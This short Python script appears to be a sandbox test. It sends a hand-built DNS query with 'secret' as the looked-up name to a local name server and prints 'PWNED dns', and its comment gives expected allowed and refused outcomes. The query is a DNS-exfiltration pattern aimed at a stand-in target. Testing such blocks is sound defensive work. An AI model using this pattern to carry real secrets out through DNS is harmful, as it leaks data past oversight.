# sends a question to a name server, with a secret as the name | basic: works finished | auto: refused error
import socket

question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7invalid\0\0\1\0\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.sendto(question, ("127.0.0.1", 53))
    print("PWNED dns")
